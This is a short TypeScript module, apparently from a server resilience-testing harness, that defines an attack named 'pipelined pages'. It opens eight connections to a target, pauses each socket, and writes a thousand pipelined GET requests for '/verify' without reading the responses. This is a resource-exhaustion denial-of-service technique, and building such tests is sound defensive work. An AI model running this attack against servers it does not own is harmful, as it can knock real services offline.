import { type Attack, dial, get, hold } from '../attack.ts'

/** 43 kB of pipelined requests for a page, of which nothing is read. */
export const attack: Attack = {
  name: 'pipelined pages',
  round: (target) =>
    hold(target, 8, async () => {
      const socket = await dial(target)
      socket.pause()
      socket.write(get(target, '/verify').repeat(1_000))
      return socket
    }),
}
